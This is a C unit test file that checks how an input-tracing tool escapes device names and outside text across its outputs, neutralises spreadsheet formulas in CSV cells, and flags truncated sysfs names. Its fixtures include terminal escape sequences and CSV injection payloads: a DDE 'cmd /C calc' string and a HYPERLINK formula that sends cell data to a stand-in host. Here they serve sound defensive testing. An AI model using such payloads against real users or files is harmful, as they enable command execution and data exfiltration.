// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * test_text.c - what outside text (device names) becomes in every text output (issue
 * 14): the escaping rule (userspace/text.c) and each output that uses it (start notice,
 * status file, ctl status, --list-devices, evemu N: line, option errors: defect 5), CSV
 * cells a spreadsheet would take for formulas (format_csv.c: defect 4), and whole
 * device names from sysfs with truncation marked (sysfs.c, format_jsonl.c: defect 9).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>
#include "cli.h"
#include "collector.h"
#include "ctl.h"
#include "format_csv.h"
#include "format_evemu.h"
#include "format_jsonl.h"
#include "notice.h"
#include "status.h"
#include "sysfs.h"
#include "text.h"
#include "tmpdir.h"
#include "slurp.h"

/* ESC [31m, CR, DEL, a C1 CSI (U+009B), a backslash, an invalid byte, and UTF-8 kept */
#define EVIL "\x1b[31mkbd\rX\x7f\xc2\x9b\\\xff" "\xc3\xa9"
#define EVIL_ESC "\\x1b[31mkbd\\x0dX\\x7f\\xc2\\x9b\\\\\\xff" "\xc3\xa9"

static char *esc(const char *s, size_t maxlen)
{
	static struct it_buf b;

	it_buf_reset(&b);
	it_text_esc(&b, s, maxlen);
	it_buf_putc(&b, 0);
	assert_false(b.oom);
	return b.p;
}

static void test_escape_rule(void **state)
{
	char out[16];
	unsigned int c;

	assert_string_equal(esc(EVIL, SIZE_MAX), EVIL_ESC);
	assert_string_equal(esc("plain name (USB) \xe2\x82\xac", SIZE_MAX), "plain name (USB) \xe2\x82\xac");
	assert_string_equal(esc("ab\ncd", 3), "ab\\x0a");		/* maxlen bounds */
	assert_string_equal(esc("\xe2\x82", SIZE_MAX), "\\xe2\\x82");	/* cut sequence */
	assert_string_equal(esc("\xc0\xaf\xed\xa0\x80", SIZE_MAX),	/* overlong, surrogate */
			    "\\xc0\\xaf\\xed\\xa0\\x80");
	assert_string_equal(esc("\xc2\xa0", SIZE_MAX), "\xc2\xa0");	/* U+00A0: not C1 */
	for (c = 1; c < 0x20; c++) {		/* every C0 byte as \xNN */
		char in[2] = { (char)c, 0 }, want[8];

		snprintf(want, sizeof(want), "\\x%02x", c);
		assert_string_equal(esc(in, SIZE_MAX), want);
	}
	/* fixed buffer: cut before an escape that does not fit, never inside one */
	assert_string_equal(it_text_escs(out, 15, EVIL, SIZE_MAX), "\\x1b[31mkbd");
	assert_string_equal(it_text_escs(out, 16, EVIL, SIZE_MAX), "\\x1b[31mkbd\\x0d");
	assert_string_equal(it_text_escs(out, 5, "\x1b", SIZE_MAX), "\\x1b");
	assert_string_equal(it_text_escs(out, 4, "\x1b", SIZE_MAX), "");
	snprintf(out, sizeof(out), "a\rb");
	it_text_esc_inplace(out, sizeof(out));
	assert_string_equal(out, "a\\x0db");
}

/* Defect 4: text cells a spreadsheet would evaluate get a leading "'" */
static void test_csv_formula(void **state)
{
	static const char *const cases[][2] = {
		{ "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
		  "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" },
		{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
		{ "@SUM(1)", "'@SUM(1)" },
		{ "-2+3", "'-2+3" },
		{ "\tx", "' x" },
		{ "\r=1", "\"' =1\"" },
		{ "Logitech USB Receiver", "Logitech USB Receiver" },
		{ "a=b", "a=b" },
		{ "", "" },
	};
	struct it_buf b = { 0 };
	unsigned int i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		it_buf_reset(&b);
		it_csv_field(&b, cases[i][0], SIZE_MAX);
		it_buf_putc(&b, 0);
		assert_string_equal(b.p, cases[i][1]);
	}
	/* numbers stay numbers: a negative value is not a text cell */
	it_buf_reset(&b);
	it_csv_event(&b, 3, "@SUM(1)", 14704248000ull, 1795980000123456000ull, 2, 0, -7);
	it_buf_putc(&b, 0);
	assert_string_equal(b.p, "event,3,'@SUM(1),14,704248,2026-11-29T19:20:00.123456Z,EV_REL,REL_X,-7\n");
	it_buf_free(&b);
}

/* Defect 5: the evemu N: line (and its comment) */
static void test_evemu_name(void **state)
{
	struct it_devinfo info = { .bustype = 3 };
	struct it_buf b = { 0 };

	snprintf(info.name, sizeof(info.name), "%s", EVIL);
	snprintf(info.sysname, sizeof(info.sysname), "input9");
	it_evemu_describe(&b, &info, NULL);
	it_buf_putc(&b, 0);
	assert_non_null(strstr(b.p, "\nN: " EVIL_ESC "\n"));
	assert_non_null(strstr(b.p, "\n# Input device name: \"" EVIL_ESC "\"\n"));
	assert_null(strpbrk(b.p, "\x1b\r\x7f"));
	it_buf_free(&b);
}

/* Defect 5: the status file, world-readable */
static void test_status_file(void **state)
{
	char path[PATH_MAX];
	struct it_status s = { .pid = 77, .keys = "class", .types = "all",
			       .devices = "input3 \"" EVIL "\"", .exclude = "", .output = "/x",
			       .format = "jsonl", .control = "" };

	snprintf(path, sizeof(path), "%s/status", dir);
	s.path = path;
	assert_int_equal(it_status_open(&s), 0);
	assert_non_null(strstr(slurp(path), "\ndevices=input3 \"" EVIL_ESC "\"\n"));
	it_status_remove(&s);
}

/* out() run with stderr (or stdout) going to a file; its text */
static char *captured(int fd, void (*out)(void *), void *arg)
{
	char path[PATH_MAX];
	int saved, f;

	snprintf(path, sizeof(path), "%s/captured", dir);
	f = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	assert_true(f >= 0);
	fflush(NULL);
	saved = dup(fd);
	dup2(f, fd);
	close(f);
	out(arg);
	fflush(NULL);
	dup2(saved, fd);
	close(saved);
	return slurp(path);
}

static void notice_out(void *arg)
{
	struct it_collector *c = arg;
	struct it_notice_text *t = calloc(1, sizeof(*t));

	assert_non_null(t);
	it_notice_text_init(t, c->o);
	it_notice_text_devices(t, c);
	it_notice_start(t, c->o, "/var/log/in\rput", IT_ATTACH_FENTRY, true);
	free(t);
}

/* Defect 5: the start notice (stderr; syslog gets the same text) */
static void test_notice(void **state)
{
	struct it_collector *c = calloc(1, sizeof(*c));
	struct it_opts o = { .type_mask = 0xffffffffu };
	char *got;

	assert_non_null(c);
	c->o = &o;
	c->devs[0] = (struct it_dev_state){ .id = 3, .used = true, .announced = true,
					    .capture = true, .has_info = true };
	snprintf(c->devs[0].info.name, sizeof(c->devs[0].info.name), "%s", EVIL);
	got = captured(2, notice_out, c);
	assert_non_null(strstr(got, "devices captured: input3 \"" EVIL_ESC "\"\n"));
	assert_non_null(strstr(got, "to /var/log/in\\x0dput (jsonl)\n"));
	assert_null(strpbrk(got, "\x1b\r\x7f"));
	free(c);
}

struct list_arg {
	const char *root;
	int n;
};

static void list_out(void *arg)
{
	struct list_arg *l = arg;

	l->n = it_sysfs_list(l->root, stdout);
}

static void put(const char *rel, const char *text, size_t len)
{
	char path[PATH_MAX], cmd[PATH_MAX + 32];
	FILE *f;

	snprintf(cmd, sizeof(cmd), "mkdir -p \"$(dirname '%s/%s')\"", dir, rel);
	assert_int_equal(system(cmd), 0);
	snprintf(path, sizeof(path), "%s/%s", dir, rel);
	assert_non_null(f = fopen(path, "w"));
	assert_int_equal(fwrite(text, 1, len, f), len);
	fclose(f);
}

/* Defect 5: --list-devices, from a sysfs tree */
static void test_list_devices(void **state)
{
	struct list_arg l = { .root = dir };
	char *got;

	put("class/input/input4/name", EVIL "\n", strlen(EVIL) + 1);
	put("class/input/input4/phys", "usb-1\x1b]0;t\x07\n", 12);
	got = captured(1, list_out, &l);
	assert_int_equal(l.n, 1);
	assert_non_null(strstr(got, " " EVIL_ESC "\n"));
	assert_non_null(strstr(got, "usb-1\\x1b]0;t\\x07 "));
	assert_null(strpbrk(got, "\x1b\r\x7f\x07"));
}

static void ctl_out(void *arg)
{
	it_ctl_devices_plain(arg, 1, stdout);
}

/* Defect 5: ctl status's device table (names from the pinned map) */
static void test_ctl_devices(void **state)
{
	struct it_device d = { .id = 3, .verdict = 1 };
	char *got;

	snprintf(d.info.name, sizeof(d.info.name), "%s", EVIL);
	snprintf(d.info.sysname, sizeof(d.info.sysname), "input3");
	got = captured(1, ctl_out, &d);
	assert_non_null(strstr(got, "input3     " EVIL_ESC "\n"));
	assert_null(strpbrk(got, "\x1b\r\x7f"));
}

/* Defect 5: option errors quote the argument escaped */
static void test_cli_error(void **state)
{
	char *argv[] = { "inputtrace", "--keys", "x\x1b[2J\\", NULL };
	struct it_opts o;
	char err[256];

	assert_int_equal(it_parse_args(3, argv, &o, err, sizeof(err), stdout), -1);
	assert_string_equal(err, "invalid --keys 'x\\x1b[2J\\\\': expected class, shortcuts, none or raw");
}

/* Defect 9: a device present at start gets its whole name from sysfs (newlines inside
 * kept, only the final one dropped), as the kernel side records it; a name longer than
 * IT_NAME_LEN - 1 bytes is cut there and flagged */
static void test_sysfs_names(void **state)
{
	static const struct { const char *name; size_t len; int cut; } cases[] = {
		{ "Multi\nLine\nName", 15, 0 },
		{ NULL, 80, 0 },		/* an 80-byte name, once cut to 79 */
		{ NULL, IT_NAME_LEN - 1, 0 },	/* fills the field exactly */
		{ NULL, IT_NAME_LEN, 1 },
		{ NULL, 300, 1 },
	};
	char text[400], want[400];
	struct it_devinfo info;
	unsigned int k;

	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		size_t i, len = cases[k].len;

		for (i = 0; i < len; i++)
			text[i] = cases[k].name ? cases[k].name[i] : (char)('a' + i % 26);
		text[len] = '\n';
		put("class/input/input6/name", text, len + 1);
		assert_int_equal(it_sysfs_devinfo(dir, "input6", &info), 0);
		len = len < IT_NAME_LEN - 1 ? len : IT_NAME_LEN - 1;
		memcpy(want, text, len);
		want[len] = 0;
		assert_string_equal(info.name, want);
		assert_int_equal(!!(info.flags & IT_DEVF_NAME_TRUNCATED), cases[k].cut);
	}
	put("class/input/input6/name", "", 0);		/* empty: "" */
	assert_int_equal(it_sysfs_devinfo(dir, "input6", &info), 0);
	assert_string_equal(info.name, "");
	assert_int_equal(info.flags, 0);
}

/* Defect 9: the device record says so, and is otherwise the same bytes */
static void test_record_truncated(void **state)
{
	struct it_devinfo i = { .bustype = 3, .vendor = 1, .product = 2, .version = 3 };
	struct it_buf b = { 0 };
	const char *rest = ",\"bus\":3,\"vendor\":1,\"product\":2,\"version\":3,\"phys\":\"\","
			   "\"uniq\":\"\",\"sysname\":\"input6\"}\n";
	char want[256];

	snprintf(i.name, sizeof(i.name), "kbd");
	snprintf(i.sysname, sizeof(i.sysname), "input6");
	it_rec_device(&b, 6, &i, "present", NULL);
	it_buf_putc(&b, 0);
	snprintf(want, sizeof(want), "{\"record\":\"device\",\"action\":\"present\",\"dev\":6,"
		 "\"name\":\"kbd\"%s", rest);
	assert_string_equal(b.p, want);
	i.flags = IT_DEVF_NAME_TRUNCATED;
	it_buf_reset(&b);
	it_rec_device(&b, 6, &i, "present", NULL);
	it_buf_putc(&b, 0);
	snprintf(want, sizeof(want), "{\"record\":\"device\",\"action\":\"present\",\"dev\":6,"
		 "\"name\":\"kbd\",\"name_truncated\":true%s", rest);
	assert_string_equal(b.p, want);
	it_buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_escape_rule),
		cmocka_unit_test(test_csv_formula),
		cmocka_unit_test(test_evemu_name),
		cmocka_unit_test_setup_teardown(test_status_file, tmpdir_setup, tmpdir_teardown),
		cmocka_unit_test_setup_teardown(test_notice, tmpdir_setup, tmpdir_teardown),
		cmocka_unit_test_setup_teardown(test_list_devices, tmpdir_setup, tmpdir_teardown),
		cmocka_unit_test_setup_teardown(test_ctl_devices, tmpdir_setup, tmpdir_teardown),
		cmocka_unit_test(test_cli_error),
		cmocka_unit_test_setup_teardown(test_sysfs_names, tmpdir_setup, tmpdir_teardown),
		cmocka_unit_test(test_record_truncated),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
